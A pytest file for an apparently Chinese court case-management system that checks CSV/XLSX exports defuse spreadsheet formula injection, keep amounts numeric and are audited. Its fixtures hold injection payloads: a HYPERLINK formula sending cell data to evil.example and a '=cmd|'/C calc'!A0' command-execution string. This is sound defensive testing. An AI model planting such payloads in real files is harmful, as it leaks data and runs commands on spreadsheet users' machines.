"""Exports never carry a live formula (OWASP "CSV Injection"), keep amounts as numbers, and are audited.

Text a spreadsheet would take for a formula (``=``, ``+``, ``-``, ``@``, tab, carriage return first) is
written with a single quote in front, in CSV and XLSX alike; the import of our own format takes exactly
that quote off again (zhiyuan.inputs.cells.restore), so export → import gives back the original text."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from zhiyuan.audit.models import AuditEntry
from zhiyuan.cases import services
from zhiyuan.cases.exporting import export_cases
from zhiyuan.cases.importing import COLUMNS
from zhiyuan.cases.models import Case
from zhiyuan.cases.services import PartyIn
from zhiyuan.inputs.cells import TRIGGERS, cell, neutralise, restore
from zhiyuan.inputs.text import FORBIDDEN

PLANTED = {
    "cause": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "plaintiff": "+86 138 0000 0000",
    "defendant": "-某公司",
    "third": "@SUM(1+1)*cmd",  # no '|' or ';': the format's separators
}


# ------------------------------------------------------------------------------------------- the rule


@given(st.text())
def test_neutralised_text_is_never_a_formula(text: str) -> None:
    assert not neutralise(text).startswith(TRIGGERS)


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r a张1")) | st.text())
def test_restore_undoes_neutralise(text: str) -> None:
    if FORBIDDEN.search(text) is None:  # what the boundary lets in
        assert restore(neutralise(text)) == text


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86", "'+86"),
        ("-5", "'-5"),  # text that looks like a negative number is still text; amounts are numbers
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),  # a quote already there: one more, so the import gives back '=x
        ("'abc", "'abc"),  # nothing to neutralise: unchanged, and the import leaves it
        ("（2024）黔0102执1号", "（2024）黔0102执1号"),
        ("张=三", "张=三"),
        ("", ""),
        ("a\x00b", "a\ufffdb"),  # stored before the boundary refused it: XLSX cannot hold it
    ],
)
def test_cells(text: str, written: str) -> None:
    assert neutralise(text) == written
    if "\x00" not in text:
        assert restore(written) == text


def test_numbers_stay_numbers() -> None:
    """A negative amount is a number, not a formula: written as is (CSV ``-12.50``, an XLSX number)."""
    assert cell(Decimal("-12.50")) == Decimal("-12.50")
    assert cell(7) == 7
    assert cell(None) == ""
    assert cell(dt.date(2025, 1, 2)) == dt.date(2025, 1, 2)


# ------------------------------------------------------------------------------------------ the export


@pytest.fixture
def planted(make_user) -> Case:  # type: ignore[no-untyped-def]
    clerk = make_user("clerk", roles=("filing_clerk",), court="黔0102")
    case = services.file_case(
        clerk,
        court_code="黔0102",
        type_code="民初",
        filed_on=dt.date(2025, 3, 3),
        cause=PLANTED["cause"],
        claim_amount=Decimal("100000.50"),
        parties_in=[
            PartyIn(PLANTED["plaintiff"], "plaintiff"),
            PartyIn(PLANTED["defendant"], "defendant"),
            PartyIn(PLANTED["third"], "third_party"),
        ],
    )
    Case.objects.filter(pk=case.pk).update(recovered_amount=Decimal("5.00"))
    return case


def _columns(values: list[Any]) -> dict[str, Any]:
    return dict(zip(COLUMNS, values, strict=True))


@pytest.mark.django_db
def test_csv_export_neutralises_formulas_and_keeps_amounts(planted: Case) -> None:
    out = io.StringIO()
    assert export_cases(out, fmt="csv") == 1
    lines = list(csv.reader(io.StringIO(out.getvalue())))
    got = _columns(lines[1])
    for value in lines[1]:
        assert not value.startswith(TRIGGERS), value
    assert got["cause"] == "'" + PLANTED["cause"]
    assert got["plaintiffs"] == "'" + PLANTED["plaintiff"]
    assert got["defendants"] == "'" + PLANTED["defendant"]
    assert got["third_parties"] == "'" + PLANTED["third"]
    assert got["claim_amount"] == "100000.50"
    assert got["recovered_amount"] == "5.00"
    assert got["case_number"] == planted.case_number
    assert {k: restore(v) for k, v in got.items()}["cause"] == PLANTED["cause"]


@pytest.mark.django_db
def test_xlsx_export_has_no_formula_cell_and_numeric_amounts(planted: Case, tmp_path: Path) -> None:
    import openpyxl

    target = tmp_path / "cases.xlsx"
    assert export_cases(target, fmt="xlsx") == 1
    sheet = openpyxl.load_workbook(target).worksheets[0]  # not data_only: formulas would show as such
    cells = next(iter(sheet.iter_rows(min_row=2)))
    for c in cells:
        assert c.data_type != "f", c.value
        assert not (isinstance(c.value, str) and c.value.startswith(TRIGGERS)), c.value
    got = _columns([c.value for c in cells])
    assert got["cause"] == "'" + PLANTED["cause"]
    assert got["claim_amount"] == pytest.approx(100000.5)
    assert got["recovered_amount"] == pytest.approx(5)
    amount = cells[COLUMNS.index("claim_amount")]
    assert amount.data_type == "n"
    assert amount.number_format == "0.00"
    assert restore(got["defendants"]) == PLANTED["defendant"]


@pytest.mark.django_db
def test_a_stored_control_character_no_longer_breaks_the_xlsx_export(planted: Case, tmp_path: Path) -> None:
    """Stored before the boundary refused it, a control character made openpyxl refuse the whole file."""
    Case.objects.filter(pk=planted.pk).update(cause_text="民间\x01借贷")
    import openpyxl

    target = tmp_path / "cases.xlsx"
    assert export_cases(target, fmt="xlsx") == 1
    row = [c.value for c in openpyxl.load_workbook(target).worksheets[0][2]]
    assert _columns(row)["cause"] == "民间\ufffd借贷"


# ---------------------------------------------------------------------------------------- the audit


@pytest.mark.django_db
def test_cli_exports_are_audited(planted: Case, tmp_path: Path) -> None:
    before = AuditEntry.objects.filter(action="cases.export").count()
    target = tmp_path / "all.csv"
    call_command("cases", "export", str(target), stderr=io.StringIO())
    call_command("cases", "export", stdout=io.StringIO())
    entries = list(AuditEntry.objects.filter(action="cases.export").order_by("seq"))[before:]
    assert len(entries) == 2
    to_file, to_stdout = entries
    assert to_file.actor_id is None
    assert to_file.actor_name == "zhiyuan cases export"
    assert to_file.outcome == "success"
    assert to_file.after is not None
    assert to_file.after["rows"] == 1
    assert to_file.after["scope"] == "all"
    assert to_file.after["format"] == "csv"
    assert to_file.after["target"] == str(target)
    assert "os_user" in to_file.after
    assert to_stdout.after is not None
    assert to_stdout.after["target"] == "stdout"


@pytest.mark.django_db
def test_an_export_by_a_user_is_audited_under_that_user(planted: Case, make_user) -> None:  # type: ignore[no-untyped-def]
    from zhiyuan.accounts.selectors import actor

    admin = make_user("exporter", roles=("command_operator",), court="黔")
    export_cases(io.StringIO(), fmt="csv", actor=actor(admin), scope="court 黔 and below")
    entry = AuditEntry.objects.filter(action="cases.export").latest("seq")
    assert entry.actor_name == "exporter"
    assert entry.after is not None
    assert entry.after["scope"] == "court 黔 and below"
    assert "os_user" not in entry.after


class _Broken(io.StringIO):
    def write(self, s: str) -> int:
        if self.tell() > 100:  # after the header
            raise BrokenPipeError("reader went away")
        return super().write(s)


@pytest.mark.django_db
def test_a_failed_export_is_audited_with_the_rows_written(planted: Case) -> None:
    with pytest.raises(BrokenPipeError):
        export_cases(_Broken(), fmt="csv")
    entry = AuditEntry.objects.filter(action="cases.export").latest("seq")
    assert entry.outcome == "failure"
    assert entry.after is not None
    assert entry.after["rows"] <= 1


@pytest.mark.django_db
def test_organizations_export_neutralises_and_is_audited(reference_data: None, tmp_path: Path) -> None:
    from zhiyuan.courts.models import Court, Mediator, PartnerOrganization
    from zhiyuan.courts.organizations_export import export_register

    org = PartnerOrganization.objects.create(
        code="TJ-1",
        name="=cmd|'/C calc'!A0",
        kind="peoples_mediation",
        court=Court.objects.get(code="黔0102"),
        contact="+86 851 0000000",
    )
    Mediator.objects.create(organization=org, code="M-1", name="@王调解")
    out = io.StringIO()
    assert export_register(out) == 2
    lines = list(csv.reader(io.StringIO(out.getvalue())))
    cells = [c for line in lines[1:] for c in line]
    assert not any(c.startswith(TRIGGERS) for c in cells)
    assert "'=cmd|'/C calc'!A0" in cells
    assert "'+86 851 0000000" in cells
    assert "'@王调解" in cells
    entry = AuditEntry.objects.filter(action="organizations.export").latest("seq")
    assert entry.after is not None
    assert (entry.after["rows"], entry.after["scope"], entry.outcome) == (2, "register", "success")
    target = tmp_path / "register.xlsx"
    call_command("organizations", "export", str(target), stderr=io.StringIO())
    import openpyxl

    values = [c for r in openpyxl.load_workbook(target).worksheets[0].iter_rows(min_row=2) for c in r]
    assert not any(c.data_type == "f" for c in values)
    assert AuditEntry.objects.filter(action="organizations.export").count() == 2


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r a张1")) | st.text())
def test_the_import_reads_back_what_the_export_writes(text: str) -> None:
    from zhiyuan.inputs import files

    if FORBIDDEN.search(text) is None:
        assert files.unquote_formula(neutralise(text)) == text


@pytest.mark.django_db
def test_export_then_import_gives_back_the_original_text(planted: Case, tmp_path: Path) -> None:
    from tests.cases.test_exporting import wipe
    from zhiyuan.cases.importing import import_file
    from zhiyuan.parties.models import Party

    for fmt in ("csv", "xlsx"):
        target = tmp_path / f"cases.{fmt}"
        export_cases(target, fmt=fmt)
        wipe()
        assert import_file(target, filename=target.name).created == 1
        case = Case.objects.get()
        assert case.cause_text == PLANTED["cause"]
        assert case.claim_amount == Decimal("100000.50")
        assert set(Party.objects.values_list("name", flat=True)) == {
            PLANTED["plaintiff"],
            PLANTED["defendant"],
            PLANTED["third"],
        }
